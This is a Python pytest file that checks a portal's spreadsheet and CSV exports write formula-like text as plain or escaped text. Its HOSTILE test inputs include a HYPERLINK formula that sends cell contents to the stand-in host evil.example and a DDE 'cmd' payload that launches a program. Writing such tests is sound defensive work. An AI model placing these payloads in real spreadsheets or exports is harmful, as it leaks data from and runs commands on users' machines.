"""Spreadsheet (formula) injection: text from the database is never a formula in an export."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.dashboards import export
from portal.reporting.spreadsheet import export_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "=1+1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_dashboard_workbook_writes_formula_like_text_as_text(app, name):
    sheet = export.Sheet("排名", [export.Column("企业名称", "name"), export.Column("数值", "value", kind="number")],
                         [{"name": name, "value": 1.5}])
    with app.test_request_context():
        data = export.workbook([sheet], period_label="2026Q3", generated_at="2026-11-29")
    ws = load_workbook(io.BytesIO(data))["排名"]
    cell = ws["A4"]
    assert cell.data_type == "s" and cell.value == name
    assert ws["B4"].value == 1.5


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_review_exports_escape_formula_like_text(app, name, fmt):
    data = export_rows([{"name": name}], [("name", "企业名称")], fmt)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        value = rows[1][0]
        assert not value.startswith(("=", "+", "-", "@"))
    else:
        cell = load_workbook(io.BytesIO(data)).active["A2"]
        assert cell.data_type != "f"
